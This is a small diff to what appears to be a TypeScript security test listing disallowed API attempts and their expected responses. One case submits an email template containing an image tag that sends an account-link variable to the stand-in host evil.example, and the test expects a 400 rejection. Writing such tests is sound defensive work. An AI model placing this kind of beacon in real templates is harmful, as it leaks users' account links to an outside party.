@@ -102,7 +102,7 @@ const attempts: readonly Attempt[] = [
   [
     'puts an account link into another template',
     '/email/templates/create',
-    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' }),
+    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLinkTemplate }}">' }),
     400,
   ],
   ['removes sample data', '/attendees/remove-sample-data', () => ({})],
